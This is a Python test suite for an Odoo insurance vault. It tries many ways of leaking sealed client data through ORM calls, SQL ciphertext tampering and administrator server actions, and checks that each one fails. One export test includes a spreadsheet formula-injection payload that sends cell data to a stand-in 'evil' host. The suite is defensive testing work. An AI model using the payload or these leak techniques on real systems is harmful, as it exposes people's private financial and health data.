import base64
import io
import logging
import zipfile

import psycopg2

from odoo import fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import Form, tagged

from odoo.addons.web.controllers.export import ExportXlsxWriter

from .. import vault_log
from ..sealed import MASK, Sealed, SealedRelated, sealed_target
from .common_vault import CANARIES, ID_NUMBER, VaultCase

SEALED = ("id_number", "bank_account", "annual_income", "total_assets", "health_notice")
ON_CONTACT = tuple(f"insurance_{name}" for name in SEALED)


class AttackCase(VaultCase):
    def assertNoCanary(self, answer):
        text = answer if isinstance(answer, str) else repr(answer)
        for canary in CANARIES:
            self.assertNotIn(canary, text)
        return answer

    def assertSilent(self, attack, *args, **kwargs):
        """The attack is refused, or its answer holds no sealed value."""
        try:
            answer = attack(*args, **kwargs)
        except (UserError, ValueError) as error:
            return self.assertNoCanary(str(error))
        return self.assertNoCanary(answer)


@tagged("post_install", "-at_install")
class TestSealedFieldAttacks(AttackCase):
    """Every way in which the ORM could be made to give a sealed value away."""

    def targets(self, user):
        """Return the records and fields through which the values could be reached."""
        self.env.invalidate_all()
        for sudo in (False, True):
            records = self.archive, self.partner, self.agent
            for record in records:
                names = SEALED if record._name == "insurance.archive" else ON_CONTACT
                yield record.with_user(user).sudo(sudo), list(names)

    def users(self):
        return self.agent | self.outsiders | self.env.ref("base.user_admin")

    def test_reading_gives_masks(self):
        for user in self.users():
            for record, names in self.targets(user):
                self.assertSilent(record.read, names)
                self.assertSilent(
                    record.web_read, {name: {} for name in (*names, "display_name")}
                )
                self.assertSilent(record.search_read, [("id", "=", record.id)], names)
                # refused for want of a purpose, an export would try nothing
                stated = record.with_context(insurance_purpose="claim")
                self.assertSilent(stated.export_data, names)
                self.assertSilent(record.mapped, names[0])

    def test_comparing_is_refused_to_all(self):
        for user in self.users():
            for record, names in self.targets(user):
                for name in names:
                    for operator, value in (
                        ("like", "1101%"),
                        ("=ilike", "11%"),
                        ("ilike", "1"),
                        (">", "0"),
                        ("<=", "9"),
                        ("!=", ID_NUMBER),
                        ("not in", [ID_NUMBER]),
                        ("any", [("id", "=", 1)]),
                    ):
                        domain = [("id", "=", record.id), (name, operator, value)]
                        try:
                            found = record.search(domain)
                        except (UserError, ValueError):
                            continue
                        # empty for those in whose eyes there is no archive
                        self.assertTrue(
                            not found or operator in ("!=", "not in"),
                            (user.login, record._name, domain),
                        )

    def test_exact_search_in_a_domain_needs_the_caller(self):
        domain = [("id_number", "=", ID_NUMBER)]
        contact_domain = [("insurance_id_number", "=", ID_NUMBER)]
        for user in self.users():
            with self.subTest(user=user.login), self.calling(user, "x.search") as env:
                mine = user == self.agent
                for model, question in (
                    ("insurance.archive", domain),
                    ("res.partner", contact_domain),
                    ("res.users", contact_domain),
                    ("insurance.interaction", [("archive_id", "any", domain)]),
                ):
                    try:
                        found = env[model].search(question)
                    except UserError:
                        self.assertFalse(mine)
                        continue
                    if model in ("insurance.archive", "res.partner"):
                        self.assertEqual(bool(found), mine)
                    else:
                        self.assertFalse(found)
        # somebody else's environment, and superuser mode
        with self.calling(self.env.ref("base.user_admin"), "x.search") as env:
            Archive = env["insurance.archive"]
            for attempt in (Archive.sudo(), Archive.with_user(self.agent)):
                with self.assertRaises(UserError):
                    attempt.search(domain)

    def test_ordering_grouping_and_aggregating_are_refused(self):
        for user in self.users():
            for record, names in self.targets(user):
                for name in names:
                    mine = [("id", "=", record.id)]
                    self.assertSilent(record.search, mine, order=f"{name} desc")
                    self.assertSilent(record._read_group, mine, [name], ["__count"])
                    self.assertSilent(record.formatted_read_group, mine, [name], [])
                    for function in ("array_agg", "max", "min", "count_distinct"):
                        self.assertSilent(
                            record._read_group, mine, [], [f"{name}:{function}"]
                        )

    def test_copies_defaults_and_onchange_hold_no_value(self):
        for user in self.users():
            for record, names in self.targets(user):
                self.assertSilent(record.copy_data)
                self.assertSilent(record.default_get, names)
                specification = {name: {} for name in names}
                self.assertSilent(record.onchange, {}, [], specification)

    def test_form_gives_masks(self):
        form = Form(self.archive.with_user(self.agent))
        self.assertEqual(form.health_notice, MASK)
        form.employer = "Canary and sons"
        form.save()
        self.assertEqual(self.reveal(self.agent, "id_number")["id_number"], ID_NUMBER)

    def test_default_of_a_sealed_field_is_refused(self):
        for model, name in (
            ("insurance.archive", "health_notice"),
            ("insurance.archive", "uuid"),
            ("res.partner", "insurance_id_number"),
            ("res.users", "insurance_id_number"),
        ):
            with self.assertRaises(ValidationError):
                self.env["ir.default"].set(model, name, "canary")

    def test_favourite_with_a_sealed_value_is_refused(self):
        values = {"name": "Mine", "model_id": "res.partner", "user_ids": []}
        for domain in (
            f"[('insurance_id_number', '=', '{ID_NUMBER}')]",
            f"[('insurance_archive_id.id_number', '=', '{ID_NUMBER}')]",
            f"[('insurance_archive_id', 'any', [('id_number', '=', '{ID_NUMBER}')])]",
            "[('insurance_id_number', '=', context_today())]",
        ):
            with self.assertRaises(ValidationError):
                self.env["ir.filters"].create({**values, "domain": domain})
        for domain in (
            "[('insurance_id_number', '!=', False)]",
            "[('name', 'ilike', 'x'), ('create_date', '>', context_today())]",
        ):
            self.assertTrue(
                self.env["ir.filters"].create(
                    {**values, "name": domain, "domain": domain}
                )
            )

    def test_import_of_sealed_columns_is_refused(self):
        with self.assertRaisesRegex(UserError, "Yearly income"):
            self.env["insurance.archive"].with_user(self.agent).load(
                ["name", "annual_income"], [["王芳", "1"]]
            )
        with self.assertRaisesRegex(UserError, "Sealed data"):
            self.env["res.partner"].with_user(self.agent).load(
                ["name", "insurance_id_number"], [["王芳", ID_NUMBER]]
            )
        loaded = self.env["insurance.archive"].load(["name"], [["王芳"]])
        self.assertTrue(loaded["ids"])

    def test_server_action_of_an_administrator_gets_no_value(self):
        code = """
record = env["insurance.archive"].browse(%(id)s).with_user(%(agent)s)
answer = "nothing"
%(attack)s
raise UserError(str(answer))
"""
        attacks = (
            "answer = record.reveal(%(names)s, 'claim')",
            "answer = record.sudo().reveal(%(names)s, 'claim')",
            "answer = record.read(%(names)s)",
            "answer = record._unsealed(%(names)s, 'claim', 'test reader')",
            "answer = record._sealed_tails(record._sealed_fields(),"
            " record._sealed_cells(), set())",
            "answer = record.search([('id_number', '=', '%(number)s')])",
            "answer = env['insurance.vault.value'].sudo().search([]).read()",
            "answer = env['insurance.vault.key'].sudo().search([]).read()",
            "answer = record._sealed_canonical(record._fields['id_number'], 'x')",
        )
        names = repr(list(SEALED))
        action = self.env["ir.actions.server"].create(
            {
                "name": "Attack",
                "model_id": self.env["ir.model"]._get_id("res.partner"),
                "state": "code",
                "code": "pass",
            }
        )
        for attack in attacks:
            with self.subTest(attack=attack):
                action.code = code % {
                    "id": self.archive.id,
                    "agent": self.agent.id,
                    "attack": attack % {"names": names, "number": ID_NUMBER},
                }
                administrator = self.env.ref("base.user_admin")
                with (
                    self.calling(administrator, "ir.actions.server.run") as env,
                    self.assertRaises(UserError) as refused,
                ):
                    action.with_env(env).run()
                shown = str(refused.exception).replace(ID_NUMBER, "")
                if "search" in attack:
                    self.assertNotIn("insurance.archive(", shown)
                self.assertNoCanary(shown)
                self.assertNotIn("002X", shown)

    def test_vault_models_are_nobodys(self):
        for user in self.users() | self.compliance:
            for model in ("key", "value", "index", "fingerprint", "quota"):
                with self.assertRaises(AccessError):
                    self.env[f"insurance.vault.{model}"].with_user(user).search([])

    def test_history_says_that_a_value_was_replaced_but_not_the_value(self):
        self.archive.with_user(self.agent).health_notice = "canary-7316 b"
        change = self.archive.change_ids.filtered(
            lambda change: change.field_name == "health_notice"
        )
        self.assertEqual((change.old_value, change.new_value), (MASK, MASK))
        self.assertEqual(change.user_id, self.agent)

    def test_database_holds_no_value_anywhere(self):
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT table_name FROM information_schema.tables"
            " WHERE table_schema = 'public' AND table_name LIKE 'insurance%'"
        )
        for [table] in self.env.cr.fetchall():
            self.env.cr.execute(f'SELECT to_jsonb(t)::text FROM "{table}" t')
            text = "".join(row[0] for row in self.env.cr.fetchall())
            for canary in (ID_NUMBER, "canary-7316", "6222021001112233445"):
                self.assertNotIn(canary, text, table)
                self.assertNotIn(canary.encode().hex(), text, table)

    def test_failing_statement_shows_no_value(self):
        self.sql("ALTER TABLE insurance_vault_value RENAME TO renamed")
        with (
            self.assertLogs("odoo.sql_db", logging.ERROR) as log,
            self.assertRaises(psycopg2.Error) as failed,
            self.cr.savepoint(),
        ):
            self.archive.health_notice = "canary-7316"
        self.assertNoCanary(str(log.output) + str(failed.exception))


@tagged("post_install", "-at_install")
class TestCiphertextSurgery(AttackCase):
    """Whoever writes to the database directly gets an error, never a wrong value."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other = cls._archive(
            name="王芳", bank_account="6222021009998877665", annual_income="1"
        )
        cls.env.flush_all()

    def assertDamaged(self, name="bank_account", archive=None):
        with self.assertRaisesRegex(UserError, "can't be opened") as refused:
            self.reveal(self.agent, name, archive=archive)
        self.assertNoCanary(str(refused.exception))
        self.assertEqual(self.actions()[-1], ("reveal", "failed"))
        self.assertIn(("alarm", "failed"), self.actions())

    def test_values_of_two_archives_swapped(self):
        self.sql(
            "UPDATE insurance_vault_value mine SET sealed = theirs.sealed"
            " FROM insurance_vault_value theirs WHERE mine.slot = theirs.slot"
            " AND mine.archive_id = %s AND theirs.archive_id = %s",
            self.archive.id,
            self.other.id,
        )
        self.assertDamaged()

    def test_values_of_two_fields_swapped(self):
        self.sql(
            "UPDATE insurance_vault_value mine SET sealed = theirs.sealed"
            " FROM insurance_vault_value theirs WHERE mine.slot = 'total_assets'"
            " AND theirs.slot = 'annual_income' AND mine.archive_id = %s"
            " AND theirs.archive_id = mine.archive_id",
            self.archive.id,
        )
        self.assertDamaged("total_assets")

    def test_last_characters_put_in_place_of_the_value(self):
        self.sql(
            "UPDATE insurance_vault_value mine SET sealed = theirs.sealed"
            " FROM insurance_vault_value theirs WHERE mine.slot = 'bank_account'"
            " AND theirs.slot = 'bank_account#tail' AND mine.archive_id = %s"
            " AND theirs.archive_id = mine.archive_id",
            self.archive.id,
        )
        self.assertDamaged()

    def test_flipped_bits(self):
        for position in range(0, 90, 7):
            with self.subTest(position=position):
                self.sql(
                    "UPDATE insurance_vault_value SET sealed = set_byte(sealed, %s,"
                    " get_byte(sealed, %s) # 1)"
                    " WHERE archive_id = %s AND slot = 'bank_account'",
                    *(position % len(self.stored("bank_account")),) * 2,
                    self.archive.id,
                )
                self.assertDamaged()

    def test_cut_and_empty_values(self):
        for blob in (b"", b"\x01", self.stored("bank_account")[:-1]):
            self.sql(
                "UPDATE insurance_vault_value SET sealed = %s"
                " WHERE archive_id = %s AND slot = 'bank_account'",
                blob,
                self.archive.id,
            )
            self.assertDamaged()

    def test_another_archives_wrapped_key(self):
        self.sql(
            "UPDATE insurance_vault_key mine SET wrapped = theirs.wrapped"
            " FROM insurance_vault_key theirs"
            " WHERE mine.archive_id = %s AND theirs.archive_id = %s",
            self.archive.id,
            self.other.id,
        )
        self.assertDamaged()

    def test_keys_and_values_moved_together(self):
        # the other client's key and values under this archive
        for table in ("index", "value", "key"):
            self.sql(
                f"DELETE FROM insurance_vault_{table} WHERE archive_id = %s",
                self.archive.id,
            )
            self.sql(
                f"UPDATE insurance_vault_{table} SET archive_id = %s"
                " WHERE archive_id = %s",
                self.archive.id,
                self.other.id,
            )
        self.assertDamaged()

    def test_replayed_older_generation(self):
        self.sql(
            "UPDATE insurance_vault_key SET state = 'retired', wrapped = NULL"
            " WHERE archive_id = %s",
            self.archive.id,
        )
        self.assertDamaged()

    def test_generation_written_over(self):
        self.sql(
            "UPDATE insurance_vault_value SET generation = 2 WHERE archive_id = %s",
            self.archive.id,
        )
        self.assertDamaged()
        self.sql(
            "UPDATE insurance_vault_key SET generation = 2 WHERE archive_id = %s",
            self.archive.id,
        )
        self.assertDamaged()

    def test_version_of_the_master_key_written_over(self):
        self.sql(
            "UPDATE insurance_vault_key SET kek_version = 2 WHERE archive_id = %s",
            self.archive.id,
        )
        self.assertDamaged()

    def test_damaged_key_is_not_replaced_unseen(self):
        self.sql(
            "UPDATE insurance_vault_key SET wrapped = set_byte(wrapped, 30,"
            " get_byte(wrapped, 30) # 1) WHERE archive_id = %s",
            self.archive.id,
        )
        with self.assertRaisesRegex(UserError, "can't be opened"):
            self.archive.health_notice = "New notice"

    def test_destroyed_key_is_not_followed_by_a_new_one(self):
        self.sql(
            "UPDATE insurance_vault_key SET state = 'destroyed', wrapped = NULL"
            " WHERE archive_id = %s",
            self.archive.id,
        )
        with self.assertRaises(UserError):
            self.archive.health_notice = "New notice"

    def test_damaged_last_characters_leave_the_list_readable(self):
        self.sql(
            "UPDATE insurance_vault_value SET sealed = '\\x00'"
            " WHERE slot = 'id_number#tail' AND archive_id = %s",
            self.archive.id,
        )
        with self.calling(self.agent) as env:
            self.assertEqual(self.archive.with_env(env).id_number, MASK)

    def test_moved_index_entry_shows_nobody_elses_client(self):
        self.sql(
            "UPDATE insurance_vault_index SET res_id = %s WHERE res_id = %s"
            " AND field LIKE '%%id_number'",
            self.other.id,
            self.archive.id,
        )
        self.other.sudo().agent_id = self.agent2
        with self.calling(self.agent, "x.search_by_identifier") as env:
            found = env["insurance.archive"].search_by_identifier(
                "id_number", ID_NUMBER
            )
        self.assertEqual(found, [])


@tagged("post_install", "-at_install")
class TestOrmGuards(AttackCase):
    """Holes of the ORM that are closed for the whole database."""

    def test_no_field_follows_a_sealed_one_as_superuser(self):
        registry = self.env.registry
        wrong = []
        for model in registry.models.values():
            for field in model._fields.values():
                if isinstance(field, Sealed) and not field.inherited:
                    if field.store or field.compute_sudo or not field.search:
                        wrong.append(str(field))
                elif self._leads_to_sealed(field):
                    wrong.append(str(field))
        self.assertFalse(
            wrong, "Follow sealed fields as the user: SealedRelated, related_sudo=False"
        )

    def _leads_to_sealed(self, field):
        """Tell whether a field gives on a sealed one other than as the user."""
        registry = self.env.registry
        as_superuser = field.compute_sudo or field.store
        if field.related:
            target = sealed_target(registry, field)
            return bool(target) and (as_superuser or field.type != "char")
        if not field.compute or not as_superuser:
            return False
        for path in registry.field_depends[field]:
            model_name = field.model_name
            for name in path.split("."):
                step = model_name and registry[model_name]._fields.get(name)
                if not step:
                    break
                if isinstance(step, Sealed | SealedRelated):
                    return True
                model_name = step.comodel_name
        return False

    def test_the_guard_test_sees_a_wrong_field(self):
        partner = self.env.registry["res.partner"]
        wrong = fields.Char(related="insurance_archive_id.id_number")
        wrong.__set_name__(partner, "x_wrong")
        wrong._setup_attrs__(partner, "x_wrong")
        wrong.model_name = "res.partner"
        self.assertTrue(self._leads_to_sealed(wrong))

    def test_sealed_field_refuses_what_would_leak(self):
        Archive = self.env.registry["insurance.archive"]
        for parameter in ("tracking", "required", "default", "translate", "related"):
            field = Sealed(**{parameter: "name"})
            with self.assertRaisesRegex(TypeError, parameter):
                field._get_attrs(Archive, "x_sealed")
        for parameters in ({"related_sudo": True}, {"store": True}):
            field = SealedRelated(
                related="insurance_archive_id.id_number", **parameters
            )
            with self.assertRaises(TypeError):
                field._get_attrs(Archive, "x_sealed")

    def test_related_field_can_not_be_grouped_against_its_groups(self):
        Archive = self.env["insurance.archive"]
        field = Archive._fields["city"]
        self.patch(field, "groups", "base.group_system")
        Archive = Archive.with_user(self.agent)
        for attack in (
            lambda: Archive.search([], order="city"),
            lambda: Archive._read_group([], ["city"]),
            lambda: Archive._read_group([], [], ["city:array_agg"]),
        ):
            with self.assertRaises(AccessError):
                attack()

    def test_attachment_of_a_guarded_field_is_closed(self):
        attachment = self.env["ir.attachment"].create(
            {
                "name": "photo",
                "res_model": "res.partner",
                "res_id": self.partner.id,
                "res_field": "image_1920",
                "datas": base64.b64encode(b"canary-7316"),
            }
        )
        mine = attachment.with_user(self.agent)
        self.assertTrue(mine.read(["datas"]))
        Partner = self.env.registry["res.partner"]
        allowed = Partner._has_field_access
        self.patch(
            Partner,
            "_has_field_access",
            lambda partner, field, operation: (
                field.name != "image_1920" and allowed(partner, field, operation)
            ),
        )
        mine.invalidate_recordset()
        with self.assertRaises(AccessError):
            mine.read(["datas"])

    def test_export_log_holds_no_search_value(self):
        vault_log.install()
        logger = logging.getLogger(vault_log.EXPORT_LOGGER)
        with self.assertLogs(logger, logging.INFO) as log:
            logger.info(
                "User %d exported %d %r records from %s. Fields: %s. %s: %s",
                *(2, 1, "res.partner", "127.0.0.1", "name", "Domain"),
                [("insurance_id_number", "=", ID_NUMBER)],
            )
        self.assertNoCanary(log.output[0])
        self.assertIn("res.partner", log.output[0])

    def test_spreadsheet_has_no_formulas(self):
        writer = ExportXlsxWriter.__new__(ExportXlsxWriter)
        import xlsxwriter

        writer.output = io.BytesIO()
        writer.workbook = xlsxwriter.Workbook(writer.output, {"in_memory": True})
        writer.worksheet = writer.workbook.add_worksheet()
        for row, text in enumerate(('=HYPERLINK("http://evil/?"&A1)', "http://evil")):
            writer.write(row, 0, text)
        writer.workbook.close()
        with zipfile.ZipFile(writer.output) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("hyperlink", sheet)


@tagged("post_install", "-at_install")
class TestDecoys(AttackCase):
    """Archives of clients who do not exist."""

    def decoy(self):
        return (
            self.env["insurance.decoy"]
            .with_user(self.compliance)
            .create({"name": "钱多多", "agent_id": self.agent.id})
        )

    def test_opening_a_decoy_raises_an_alarm(self):
        decoy = self.decoy()
        archive = decoy.sudo().archive_id
        self.uses.clear()
        opened = self.reveal(self.agent, "id_number", archive=archive)
        self.assertTrue(opened["id_number"])
        self.assertEqual(self.actions(), [("reveal", "done"), ("alarm", "done")])
        self.assertEqual(decoy.alarm_count, 1)
        activities = self.env["mail.activity"].search(
            [("user_id", "=", self.compliance.id), ("res_id", "=", False)]
        )
        self.assertTrue(activities)
        with self.assertRaises(UserError):
            decoy.unlink()

    def test_agent_can_not_tell_a_decoy(self):
        decoy = self.decoy()
        for user in self.agent | self.supervisor | self.env.ref("base.user_admin"):
            with self.assertRaises(AccessError):
                decoy.with_user(user).read(["name"])
        archive = decoy.sudo().archive_id.with_user(self.agent)
        self.assertNotIn("decoy", str(archive.read()).lower())

    def test_ordinary_archives_raise_no_alarm(self):
        self.reveal(self.agent, "id_number")
        self.assertNotIn(("alarm", "done"), self.actions())
